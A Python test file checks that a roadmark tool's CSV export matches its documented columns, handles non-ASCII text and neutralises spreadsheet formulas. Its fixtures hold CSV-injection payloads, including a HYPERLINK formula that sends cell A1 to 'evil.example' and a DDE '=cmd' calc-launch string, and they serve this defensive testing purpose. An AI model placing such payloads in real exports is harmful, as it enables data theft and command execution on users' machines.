"""The CSV export as spreadsheet users open it: documented columns, effective releases,
formulas neutralised, non-ASCII intact in Excel, the same bytes on every run."""

from __future__ import annotations

import io
import re
from datetime import date
from pathlib import Path
from typing import TYPE_CHECKING

import pandas as pd
import pytest

from roadmark.render.export_csv import BOM, FORMULA_STARTS
from roadmark.render.export_table import ITEM_COLUMNS, LIST_SEPARATOR, TRACE_COLUMNS
from sites import PRODUCT, mkdocs_config, spec, write_project

if TYPE_CHECKING:
    from conftest import RunCli

DOCS = Path(__file__).resolve().parents[1] / "docs" / "exports.md"
TODAY = "2026-11-20"
"""A fixed today: `at_risk` and the XLSX and needs.json dates depend on it."""
CONFIG = mkdocs_config(["search", {"roadmark": {"today": TODAY}}])

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE: dict[str, str] = {
    "product/prds/PRD-1.md": spec(
        "PRD-1", "prd", "+SUM(1,2) Ünïcödé 日本語 café", "approved",
        """
        ## Requirements

        - R-1: The system shall survive `=cmd|' /C calc'!A0` and *unclosed emphasis.
        - R-2: The system shall keep .. raw:: html as text.

        ====
        """,
        owner="@alex", tags=["-x", "=1+1", "naïve"], release="R1",
    ),
    "product/epics/EPIC-1.md": spec(
        "EPIC-1", "epic", "-1 day late", "planned",
        """
        .. raw:: html

           <script>alert(1)</script>

        |sub| `unclosed and \\ backslash \x1b[31mred\x1b[0m \x07 bell
        """,
        prd="PRD-1", owner="=cmd|' /C calc'!A0", team="+team",
    ),
    "product/stories/STORY-1.md": spec(
        "STORY-1", "story", PAYLOAD, "ready",
        """
        Line one\r
        ## Acceptance criteria

        - AC-1: Given =1+1, when exported, then it is text.
        """,
        epic="EPIC-1", estimate=3, implements=["PRD-1/R-1", "PRD-1/R-2"], tags=["@t", "b"],
        sprint="-S1", type="bug", priority="P1",
    ),
    "product/stories/STORY-2.md": spec(
        "STORY-2", "story", "x" * 40_000, "ready", "", epic="EPIC-1", estimate=1e12,
        depends_on=["STORY-1", "STORY-9"], owner="-1",
    ),
    "product/releases/R1.md": spec(
        "R1", "release", "First — ünïcode", "planned", "", date=date(2026, 12, 1),
    ),
}  # fmt: skip
"""A product written by a stranger: formulas, control characters in bodies (loading refuses
them in fields), markup of every kind, non-ASCII, a huge title and the largest estimate."""


def documented_columns(section: str) -> list[str]:
    """The column names of the table under `## {section}` in docs/exports.md."""
    text = DOCS.read_text(encoding="utf-8")
    body = text.split(f"## {section}\n", 1)[1].split("\n## ", 1)[0]
    return re.findall(r"^\| `([a-z_]+)` \|", body, flags=re.MULTILINE)


def export(run_cli: RunCli, root: Path, *args: str) -> bytes:
    """Run `roadmark export ARGS -o FILE` in `root`; the bytes written."""
    target = root / "out.export"
    done = run_cli("export", "--no-test-results", *args, "--output", target, cwd=root)
    assert (done.code, done.err) == (0, ""), done.err
    return target.read_bytes()


def test_the_documented_columns_are_the_exported_ones(tmp_path: Path, run_cli: RunCli) -> None:
    write_project(tmp_path, PRODUCT, CONFIG)
    assert documented_columns("Items columns") == list(ITEM_COLUMNS)
    assert documented_columns("Trace columns") == list(TRACE_COLUMNS)
    items = export(run_cli, tmp_path, "--format", "csv").decode("utf-8")
    trace = export(run_cli, tmp_path, "--format", "csv", "--view", "trace").decode("utf-8")
    assert items.splitlines()[0].split(",") == documented_columns("Items columns")
    assert trace.splitlines()[0].split(",") == documented_columns("Trace columns")
    assert f"joined with `{LIST_SEPARATOR}`" in DOCS.read_text(encoding="utf-8")


@pytest.mark.roadmark("STORY-79/AC-1")
def test_pandas_reads_the_documented_columns_and_the_effective_release(
    tmp_path: Path, run_cli: RunCli
) -> None:
    write_project(tmp_path, PRODUCT, CONFIG)
    table = pd.read_csv(io.BytesIO(export(run_cli, tmp_path, "--format", "csv")), dtype=str)
    assert list(table.columns) == documented_columns("Items columns")
    rows = table.set_index("id")
    # STORY-4 names no release: it ships in its epic's, R2, which it does not write.
    assert rows.loc["STORY-4", "release"] == "R2"
    assert pd.isna(rows.loc["STORY-4", "release_as_written"])
    assert rows.loc["STORY-1", "release"] == rows.loc["STORY-1", "release_as_written"] == "R1"
    assert rows.loc["STORY-1", "tags"] == "export; json"
    assert rows.loc["STORY-1", "prd"] == "PRD-1"
    assert rows.loc["STORY-2", "depends_on"] == "STORY-1"
    assert rows.loc["EPIC-1", "target"] == "2026-11-30"
    assert rows.loc["R1", "target"] == "2026-12-01"
    # R1 is due 11 days after TODAY at 62%: not behind. Nothing is at risk.
    assert set(table["at_risk"].dropna()) <= {"true", "false"}
    numbers = pd.read_csv(io.BytesIO(export(run_cli, tmp_path, "--format", "csv")))
    assert numbers["estimate"].dtype == "float64"  # empty cells make pandas use floats
    assert numbers.set_index("id").loc["STORY-3", "estimate"] == 8
    assert numbers.set_index("id").loc["EPIC-1", "progress"] == 62


@pytest.mark.roadmark("STORY-79/AC-2")
def test_a_formula_payload_is_neutralised_in_every_csv_cell(
    tmp_path: Path, run_cli: RunCli
) -> None:
    write_project(tmp_path, HOSTILE, CONFIG)
    for view in ("items", "trace"):
        for excel in ((), ("--excel",)):
            data = export(run_cli, tmp_path, "--format", "csv", "--view", view, *excel)
            table = pd.read_csv(
                io.BytesIO(data), dtype=str, keep_default_na=False, encoding="utf-8-sig"
            )
            cells = [cell for column in table.columns for cell in table[column]]
            assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    items = pd.read_csv(
        io.BytesIO(export(run_cli, tmp_path, "--format", "csv")), dtype=str, keep_default_na=False
    ).set_index("id")
    assert items.loc["STORY-1", "title"] == "'" + PAYLOAD
    assert items.loc["EPIC-1", "owner"] == "'=cmd|' /C calc'!A0"
    assert items.loc["EPIC-1", "team"] == "'+team"
    assert items.loc["PRD-1", "tags"] == "'-x; =1+1; naïve"  # one cell, one quote
    assert items.loc["STORY-2", "owner"] == "'-1"
    assert items.loc["STORY-2", "depends_on"] == "STORY-1; STORY-9"
    # A number stays a number, however large.
    assert float(items.loc["STORY-2", "estimate"]) == 1e12


@pytest.mark.roadmark("STORY-79/AC-3")
def test_excel_csv_has_a_bom_and_crlf_and_round_trips_non_ascii(
    tmp_path: Path, run_cli: RunCli
) -> None:
    write_project(tmp_path, HOSTILE, CONFIG)
    plain = export(run_cli, tmp_path, "--format", "csv")
    excel = export(run_cli, tmp_path, "--format", "csv", "--excel")
    assert excel.startswith(BOM.encode("utf-8")) and not plain.startswith(BOM.encode("utf-8"))
    # Every record ends in CRLF; a line feed alone is only ever inside a quoted cell.
    assert excel.endswith(b"\r\n") and excel.count(b"\r\n") >= len(HOSTILE) + 1
    table = pd.read_csv(io.BytesIO(excel), dtype=str, keep_default_na=False, encoding="utf-8-sig")
    rows = table.set_index("id")
    assert table.columns[0] == "id"  # not "\ufeffid": the BOM is no part of the header
    assert rows.loc["EPIC-1", "title"] == "'-1 day late"
    assert rows.loc["PRD-1", "title"] == "'+SUM(1,2) Ünïcödé 日本語 café"
    assert rows.loc["R1", "title"] == "First — ünïcode"
    plain_rows = pd.read_csv(io.BytesIO(plain), dtype=str, keep_default_na=False).set_index("id")
    assert rows.equals(plain_rows)  # only the BOM and the line ends differ


def test_the_same_product_exports_the_same_bytes(tmp_path: Path, run_cli: RunCli) -> None:
    write_project(tmp_path, HOSTILE, CONFIG)
    for args in (("--format", "csv"), ("--format", "csv", "--excel"), ("--view", "trace")):
        first = export(run_cli, tmp_path, *args)
        assert export(run_cli, tmp_path, *args) == first, args


def test_usage_errors_are_one_line(tmp_path: Path, run_cli: RunCli) -> None:
    write_project(tmp_path, PRODUCT, CONFIG)
    for args, says in [
        (("--format", "json", "--excel"), "--excel is for --format csv"),
        (("--format", "needs", "--view", "trace"), "items view only"),
        (("--format", "xlsx"), "--output FILE"),
    ]:
        done = run_cli("export", *args, cwd=tmp_path)
        assert done.code == 2, args
        assert done.out == ""
        assert done.err.count("\n") == 1 and says in done.err, done.err


def test_the_trace_csv_names_its_verdict_column_as_the_docs_do() -> None:
    docs = DOCS.read_text(encoding="utf-8") + (DOCS.parent / "cli.md").read_text("utf-8")
    assert "criterion_result" not in docs
    assert "prd,requirement,story,story_status,criterion,verdict,test" in docs
